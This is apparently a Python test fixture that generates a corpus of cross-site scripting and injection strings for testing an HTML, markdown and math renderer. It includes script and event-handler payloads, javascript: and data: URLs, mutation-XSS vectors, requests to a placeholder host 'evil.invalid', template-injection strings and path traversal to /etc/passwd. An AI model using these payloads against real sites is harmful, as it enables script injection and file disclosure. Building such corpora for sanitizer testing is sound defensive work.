"""Texts that try to run a script, to fetch something, or to leave their box: vectors times the ways to wrap them.

What each tries is to call ``alert`` or to make a request to another host. Written for these tests; the ideas are
common knowledge (OWASP's cheat sheet, the CommonMark specification's corner cases).
"""

from __future__ import annotations

from html import escape

EVIL = "//evil.invalid"

HTML = [
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/pixel.png>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x:x onerror\n=\nalert(1)>",
    f'<img srcset="{EVIL}/a 1x">',
    f"<picture><source srcset={EVIL}/b><img></picture>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<svg><image href={EVIL}/c /></svg>",
    f"<svg><use href={EVIL}/d#x /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data={EVIL}/e></object>",
    f"<embed src={EVIL}/f>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<link rel=stylesheet href={EVIL}/g.css>",
    f"<link rel=prefetch href={EVIL}/h>",
    f"<style>@import '{EVIL}/i.css'</style>",
    f"<style>*{{background:url({EVIL}/j)}}</style>",
    f"<p style='background:url({EVIL}/k)'>x</p>",
    f"<table background={EVIL}/l><tr><td>x</table>",
    f"<body background={EVIL}/m onload=alert(1)>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/n'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button autofocus onfocus=alert(1)>x",
    "<a href=# autofocus onfocus=alert(1) id=x tabindex=1>x</a>",
    "<video><source onerror=alert(1)></video>",
    f"<video src={EVIL}/o autoplay poster={EVIL}/p></video>",
    f"<audio src={EVIL}/q autoplay onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open oncancel=alert(1)>x</dialog>",
    "<form action=javascript:alert(1)><input type=submit autofocus></form>",
    f"<form id=task action={EVIL}><input name=note></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<div id=live></div><div id=submit onclick=alert(1)>x</div>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "`><img src=x onerror=alert(1)>",
]
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript&colon;alert(1)",
    "%6aavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "blob:http://x/y",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    f"{EVIL}/r",
    "/api/logout",
    "\\\\evil.invalid\\s",
    "http:evil.invalid",
]
_LINKS = [
    "[x]({0})",
    "[x](<{0}>)",
    "![x]({0})",
    "![x]({0} 'title')",
    "<{0}>",
    "[x]: {0}\n\n[x] ![x]",
    "[![x]({0})]({0})",
]
_TEXTS = [
    "{{{{ 7*7 }}}}{{% for x in ().__class__.__base__.__subclasses__() %}}x{{% endfor %}}",
    "${{alert(1)}} #{{alert(1)}} <%= alert(1) %> {{{{constructor.constructor('alert(1)')()}}}}",
    "```html\n{0}\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```x onclick=alert(1) class=y\ncode\n```",
    "~~~ '><script>alert(1)</script>\ncode\n~~~",
    "    {0}",
    "`{0}`",
    "``{0}` ``",
    "# {0}",
    "> {0}\n> {0}",
    "- {0}\n  1. {0}",
    "| a | b |\n|---|:-:|\n| {0} | {0} |",
    "**{0}** _{0}_ ~~{0}~~",
    "[{0}](https://example.org '{0}')",
    "![{0}](https://example.org/x.png '{0}')",
    "<!-- {0} -->",
    "<![CDATA[{0}]]>",
    "<?php {0} ?>",
    "\u202e{0}\u202c",
    "\ufeff{0}",
    "＜script＞alert(1)＜/script＞",
    "\u2028{0}\u2029",
    "<\u200bscript>alert(1)</script>",
    "\\<script\\>alert(1)\\</script\\>",
]
# In formulas, images and code, where more than text is made of a text.
DRAWN = [
    r"$\text{<script>alert(1)</script>} = 1$",
    r"$\text{<img src=x onerror=alert(1)>} = 1$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;} = 1$",
    r"$\text{&#x3c;img src=x onerror=alert(1)&#x3e;} = 1$",
    r"$\href{javascript:alert(1)}{x} = 1$",
    r"$$\style{background:url(//evil.invalid/t)}{x} = 1$$",
    r"$$\class{x' onclick='alert(1)}{x} = 1$$",
    r"\(\unicode{x3c}script\unicode{x3e}alert(1) = 1\)",
    r"\[\color{red;background:url(//evil.invalid/u)}{x} = 1\]",
    r"\[\operatorname{<iframe src=javascript:alert(1)>} = 1\]",
    r"$$\begin{array}{c' onclick=alert(1) x='}a\end{array}$$",
    r"$$\hspace{1em' onclick='alert(1)} = 1$$",
    r"$\includegraphics{//evil.invalid/v.png} = 1$",
    "$$\n</math><img src=x onerror=alert(1)> = 1\n$$",
    "![evil](/pictures/../accord.db)",
    "![evil](..%2f..%2fetc%2fpasswd.png)",
    "![evil](pictures/x.svg 'alert(1)')",
    "[evil](/pictures/x.png)",
    "```python\n'</code></pre><script>alert(1)</script>'\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```js\n`${alert(1)}</span><script>alert(1)</script>`\n```",
]
_INNER = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '" onfocus="alert(1)" autofocus="']


def payloads() -> list[str]:
    """Every text once: HTML as it is and as entities, links of every kind to every address, markdown around HTML."""
    made = [*HTML, *map(escape, HTML[::4])]
    made += [link.format(url) for url in URLS for link in _LINKS]
    made += DRAWN
    made += [text.format(inner) for text in _TEXTS for inner in _INNER]
    return list(dict.fromkeys(made))


def short(limit: int) -> list[str]:
    """Those that fit into a name: one line, no control characters."""
    return [text for text in HTML if len(text) <= limit and "\n" not in text]
